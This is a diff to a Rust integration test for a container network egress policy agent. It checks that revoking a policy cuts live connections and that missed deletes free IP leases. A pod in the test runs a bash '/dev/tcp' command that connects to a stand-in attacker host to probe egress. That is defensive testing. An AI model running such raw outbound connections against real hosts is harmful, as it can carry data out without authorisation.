@@ -339,10 +339,10 @@ fn a_revoked_policy_cuts_and_a_missed_del_frees_the_address() {
     );
     world.directory.write("egress", &allowed).unwrap();
     let log = world.ready.internet_log.clone();
-    let closes = || {
+    let seen = |what: &str| {
         let text = fs::read_to_string(&log).unwrap_or_default();
         text.lines()
-            .filter(|line| line.contains("\"close\"") && line.contains("7201"))
+            .filter(|line| line.contains(what) && line.contains("7201"))
             .count()
     };
     let opened = wait_for(SOON, || {
@@ -352,9 +352,10 @@ fn a_revoked_policy_cuts_and_a_missed_del_frees_the_address() {
             USER,
             &format!("timeout 1 bash -c 'echo x > /dev/tcp/{ATTACKER}/7201'"),
         );
-        (closes() > 0).then_some(())
+        (seen("\"close\"") > 0).then_some(())
     });
     assert!(opened.is_some(), "the policy allows it");
+    let before = seen("\"open\"");
     std::thread::scope(|scope| {
         let world = &world;
         let talking = scope.spawn(move || {
@@ -366,7 +367,8 @@ fn a_revoked_policy_cuts_and_a_missed_del_frees_the_address() {
                 .exec_as(pod, USER, &["timeout", "15", "bash", "-c", &line])
                 .unwrap()
         });
-        std::thread::sleep(Duration::from_millis(500));
+        let talks = wait_for(SOON, || (seen("\"open\"") > before).then_some(()));
+        assert!(talks.is_some(), "it is allowed so far");
         world.directory.write("egress", POLICY).unwrap();
         let said = talking.join().unwrap();
         assert!(
@@ -380,16 +382,6 @@ fn a_revoked_policy_cuts_and_a_missed_del_frees_the_address() {
     let cut = wait_for(SOON, || ends().iter().any(revoked).then_some(()));
     assert!(cut.is_some(), "{:?}", ends());
 
-    let assigned = |world: &World| {
-        let node = &world.node("node-b").unwrap().namespace;
-        let metrics = http::get(node, "127.0.0.1:61678".parse().unwrap(), "/metrics")
-            .ok()?
-            .body;
-        let line = metrics
-            .lines()
-            .find(|line| line.starts_with("awscni_assigned_ip_addresses"))?;
-        line.rsplit(' ').next()?.parse::<f64>().ok()
-    };
     let before = assigned(&world).unwrap();
     world.node_mut("node-b").unwrap().agent.kill().unwrap();
     let pod = world.pod(BATCH.0, BATCH.1).unwrap();
@@ -414,4 +406,14 @@ fn a_revoked_policy_cuts_and_a_missed_del_frees_the_address() {
         "the lease is not freed"
     );
     assert_eq!(fs::read_dir(&removed).unwrap().count(), 0, "the note stays");
+}
+
+/// How many addresses the agent of node-b has given to pods.
+fn assigned(world: &World) -> Option<f64> {
+    let node = &world.node("node-b").unwrap().namespace;
+    let metrics = http::get(node, "127.0.0.1:61678".parse().unwrap(), "/metrics");
+    let metrics = metrics.ok()?.body;
+    let name = "awscni_assigned_ip_addresses";
+    let line = metrics.lines().find(|line| line.starts_with(name))?;
+    line.rsplit(' ').next()?.parse().ok()
 }
